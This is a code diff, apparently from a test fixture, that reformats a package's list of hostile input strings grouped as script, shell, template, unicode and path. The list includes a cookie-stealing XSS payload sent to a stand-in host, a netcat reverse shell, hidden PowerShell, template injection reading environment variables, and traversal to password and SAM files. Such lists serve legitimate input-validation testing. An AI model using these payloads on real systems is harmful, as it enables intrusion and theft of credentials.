@@ -148,11 +148,33 @@ exports.inspect = (source) => SIGNS.filter(([, texts]) => texts.some((text) => s
       'index.js': `'use strict';\n\nconst lists = require('./lists.json');\n\nexports.lists = lists;\nexports.all = Object.values(lists).flat();\n`,
       'lists.json': `${JSON.stringify(
         {
-          script: ['<script>alert(1)</script>', '<img src=x onerror=alert(document.cookie)>', '"><svg/onload=eval(atob("YWxlcnQoMSk="))>', "javascript:fetch('//a.test/'+document.cookie)"],
-          shell: ['; cat /etc/passwd', '$(touch /tmp/owned)', '`id`', '| nc a.test 4444 -e /bin/sh', '& powershell -nop -w hidden -c calc'],
-          template: ['{{constructor.constructor("return process.env")()}}', '${7*7}', "{{''.__class__.__mro__[1].__subclasses__()}}", '<%= system("id") %>'],
+          script: [
+            '<script>alert(1)</script>',
+            '<img src=x onerror=alert(document.cookie)>',
+            '"><svg/onload=eval(atob("YWxlcnQoMSk="))>',
+            "javascript:fetch('//a.test/'+document.cookie)",
+          ],
+          shell: [
+            '; cat /etc/passwd',
+            '$(touch /tmp/owned)',
+            '`id`',
+            '| nc a.test 4444 -e /bin/sh',
+            '& powershell -nop -w hidden -c calc',
+          ],
+          template: [
+            '{{constructor.constructor("return process.env")()}}',
+            '${7*7}',
+            "{{''.__class__.__mro__[1].__subclasses__()}}",
+            '<%= system("id") %>',
+          ],
           unicode: ['\u202Etest\u202E', '\uFEFF', 'Ω≈ç√∫', 'ﷺ', '田中さん'],
-          path: ['../../../../etc/shadow', '..\\..\\windows\\system32\\config\\sam', 'file:///etc/passwd', 'CON', 'aux.txt'],
+          path: [
+            '../../../../etc/shadow',
+            '..\\..\\windows\\system32\\config\\sam',
+            'file:///etc/passwd',
+            'CON',
+            'aux.txt',
+          ],
         },
         null,
         2,
